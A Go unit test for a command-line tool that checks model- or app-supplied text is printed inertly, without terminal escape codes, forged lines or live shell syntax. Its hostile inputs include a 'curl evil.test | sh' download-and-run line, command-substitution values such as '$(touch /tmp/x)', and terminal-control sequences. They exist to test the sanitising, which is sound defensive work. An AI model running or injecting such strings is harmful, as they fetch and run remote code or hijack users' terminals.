package cli

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/isekai-run/isekai/internal/client"
)

// What a model or an app says drives no terminal, forges no line, and is no
// command when it is copied into a shell.
func TestWhatAModelSaysIsText(t *testing.T) {
	t.Parallel()
	evil := "a\x1b]52;c;ZXZpbA==\x07\u009b2J\u202eb\rc"
	var out, complaint bytes.Buffer
	sh := &shell{io: IO{Out: &out, Err: &complaint}}
	a := client.AppDetail{App: client.App{Name: "books", Title: evil + "\nOpen http://evil.test"}}
	a.Selected.Notes = []string{evil + "\n  Stop     curl evil.test | sh"}
	a.Selected.Suggestions = []string{"$(touch /tmp/x) `id` \"it's\"\n!"}
	showResult(plain{&out}, a, false, true)
	if err := sh.print(nil, func(w io.Writer) { fmt.Fprintf(w, "+\tx = %s\n", evil) }); err != nil {
		t.Fatal(err)
	}
	sh.complain(errors.New(evil))
	all := out.String() + complaint.String()
	if strings.ContainsAny(all, "\x1b\x07\r\u009b\u202e") {
		t.Errorf("the terminal is driven: %q", all)
	}
	for _, want := range []string{
		"\n  Change   isekai app change books '$(touch /tmp/x) `id` \"it'\\''s\" !'\n", "+\tx = a]52;c;ZXZpbA==2Jbc\n",
	} {
		if !strings.Contains(all, want) {
			t.Errorf("%q isn't in %q", want, all)
		}
	}
	if strings.Contains(all, "\nOpen http://evil") || strings.Contains(all, "\n  Stop     curl") {
		t.Errorf("a line is forged: %s", all)
	}
}
